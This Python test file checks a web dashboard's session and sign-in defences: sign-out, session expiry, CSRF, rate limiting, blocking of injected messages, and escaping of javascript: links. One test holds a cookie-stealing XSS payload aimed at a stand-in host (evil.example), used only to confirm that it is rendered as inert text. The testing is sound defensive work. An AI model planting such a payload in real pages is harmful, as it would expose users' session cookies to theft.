"""Dashboard sessions, the sign-in form, failed attempts, and what pages may say and link to.

The real app in-process (as tests/test_dashboard.py drives it), a real worker and the time-skipping
Temporal server; requests are what a browser sends.
"""

from __future__ import annotations

from datetime import timedelta

import httpx
from sqlalchemy import text
from temporalio.testing import WorkflowEnvironment

from followthrough.api.dashboard import SESSION_COOKIE, SIGN_IN_COOKIE
from followthrough.domain.access import hash_token
from followthrough.domain.limits import FAILED_ATTEMPTS, FAILURE_WINDOW_SECONDS, SESSION_HOURS
from tests.api_support import Api
from tests.conftest import eventually
from tests.factories import draft_data
from tests.test_api import open_postmortem
from tests.test_dashboard import browser, csrf_of, sign_in, text_of


async def test_signing_out_ends_the_session_even_for_a_copied_cookie(api: Api) -> None:
    async with browser(api, "dan") as dan, browser(api) as thief:
        overview = await dan.get("/")
        assert overview.status_code == 200
        thief.cookies.set(SESSION_COOKIE, dan.cookies[SESSION_COOKIE])
        assert (await thief.get("/")).status_code == 200  # a copied cookie works until...

        out = await dan.post("/logout", data={"csrf": csrf_of(overview)})
        assert out.status_code == 303

        assert (await thief.get("/")).status_code == 303  # ...sign-out ends it on the server
        assert (await dan.get("/")).status_code == 303


async def test_the_cookie_is_a_session_id_of_which_only_the_hash_is_kept(api: Api) -> None:
    token = api.token("dan")
    async with browser(api, "dan") as dan:
        cookie = dan.cookies[SESSION_COOKIE]
    assert token not in cookie  # a stolen cookie is not the API token
    with api.services.store.engine.connect() as db:
        kept = db.execute(text("SELECT id_hash, person FROM dashboard_sessions")).all()
    assert [tuple(row) for row in kept] == [(hash_token(cookie), "dan")]


async def test_a_session_ends_after_its_hours(api: Api) -> None:
    async with browser(api, "dan") as dan:
        assert (await dan.get("/")).status_code == 200
        signed_in_at = api.services.clock()
        later = signed_in_at + timedelta(hours=SESSION_HOURS, minutes=1)
        api.services.clock = lambda: later
        page = await dan.get("/postmortems")
        assert page.status_code == 303
        assert page.headers["location"].startswith("/login")


async def test_the_cookie_is_secure_when_people_reach_us_by_https(api: Api) -> None:
    """TLS ends at a proxy in front (the app sees http): the public URL decides."""
    api.services.settings.public_url = "https://followthrough.example"
    async with browser(api) as client:
        form = await client.get("/login")
        browser_sends = {"Cookie": f"{SIGN_IN_COOKIE}={form.cookies[SIGN_IN_COOKIE]}"}  # by https
        signed_in = await client.post(
            "/login",
            data={"token": api.token("dan"), "next": "/", "csrf": csrf_of(form)},
            headers=browser_sends,
        )
    assert signed_in.status_code == 303, signed_in.text
    session_cookie = next(
        c for c in signed_in.headers.get_list("set-cookie") if c.startswith(SESSION_COOKIE)
    )
    assert "secure" in session_cookie.lower()


async def test_the_sign_in_form_refuses_a_post_that_did_not_come_from_it(api: Api) -> None:
    token = api.token("dan")
    async with browser(api) as victim, browser(api) as attacker:
        # A page elsewhere posts the form: no CSRF token, or the attacker's own.
        blind = await victim.post("/login", data={"token": token, "next": "/"})
        assert blind.status_code == 403 and "csrf" in blind.text
        attackers_form = await attacker.get("/login")
        borrowed = await victim.post(
            "/login", data={"token": token, "next": "/", "csrf": csrf_of(attackers_form)}
        )
        assert borrowed.status_code == 403
        assert SESSION_COOKIE not in victim.cookies
        assert (await victim.get("/")).status_code == 303
        assert (await sign_in(victim, token)).status_code == 303  # from its own form: fine


async def _refused_for_a_while(api: Api, attempt: httpx.Response) -> None:
    assert attempt.status_code == 429, attempt.text
    wait = int(attempt.headers["retry-after"])
    assert 0 < wait <= FAILURE_WINDOW_SECONDS
    assert "too many failed attempts" in attempt.text


def _window_passes(api: Api) -> None:
    throttle = api.services.throttle
    passed = throttle.clock() + FAILURE_WINDOW_SECONDS
    throttle.clock = lambda: passed


async def test_failed_sign_ins_are_limited_per_client(api: Api) -> None:
    token = api.token("dan")
    async with browser(api) as guesser:
        for n in range(FAILED_ATTEMPTS):
            assert (await sign_in(guesser, f"ft_guess{n}")).status_code == 401
        # Past the limit even the right token waits: the form cannot be used to guess.
        await _refused_for_a_while(api, await sign_in(guesser, token))
        _window_passes(api)
        assert (await sign_in(guesser, token)).status_code == 303


async def test_bad_api_tokens_are_limited_per_client(api: Api) -> None:
    for _ in range(2 * FAILED_ATTEMPTS):  # no token at all guesses nothing: not counted
        assert (await api.http.get("/api/me")).status_code == 401
    for n in range(FAILED_ATTEMPTS):
        guess = await api.http.get("/api/me", headers={"Authorization": f"Bearer ft_guess{n}"})
        assert guess.status_code == 401
    await _refused_for_a_while(api, await api.get("/api/me", "dan"))
    _window_passes(api)
    assert (await api.get("/api/me", "dan")).status_code == 200


async def test_forged_one_click_links_are_limited_per_client(api: Api) -> None:
    for n in range(FAILED_ATTEMPTS):
        assert (await api.http.get(f"/act/forged{n}.abc")).status_code == 403
    await _refused_for_a_while(api, await api.http.get("/act/forged.abc"))


async def test_the_address_cannot_put_words_on_a_page(api: Api) -> None:
    """The red (and green) box says only what the server decided: `?error=` is not shown."""
    planted = "Your account is locked; call 555-0100 with your token"
    async with browser(api, "dan") as dan, browser(api) as anonymous:
        for client, path in ((dan, "/"), (dan, "/postmortems"), (anonymous, "/login")):
            for kind in ("error", "done"):
                page = await client.get(path, params={kind: planted})
                assert page.status_code == 200
                assert planted not in text_of(page), (path, kind)


async def test_only_web_addresses_become_links(
    api: Api, time_skipping: WorkflowEnvironment
) -> None:
    """An incident whose `url` is `javascript:` shows it as text, on the page and in email."""
    hostile = "javascript:fetch('//evil.example/'+document.cookie)"
    pm_id = await open_postmortem(api, time_skipping, url=hostile)
    now = await time_skipping.get_current_time()
    assert (await api.post(f"/api/postmortems/{pm_id}/draft", "alice", draft_data(now))).is_success
    assert (await api.post(f"/api/postmortems/{pm_id}/approve", "erin", {})).is_success
    async with browser(api, "dan") as dan:
        page = await dan.get(f"/postmortems/{pm_id}")
    assert page.status_code == 200
    assert hostile in text_of(page)  # shown, as text
    assert 'href="javascript:' not in page.text

    # The owner asks for more time: the email to the decider describes the incident.
    item = f"{pm_id}-item-1"
    store = api.services.store
    due = (await eventually(lambda: store.records.action_item(item))).due
    ask = {"until": (due + timedelta(days=7)).isoformat(), "reason": "vendor delay"}
    assert (await api.post(f"/api/action-items/{item}/extension", "bob", ask)).is_success
    mail = await eventually(lambda: store.outbox.messages(postmortem_id=pm_id))
    for message in mail:
        assert "Incident" in message.html
        assert 'href="javascript:' not in message.html, message.subject
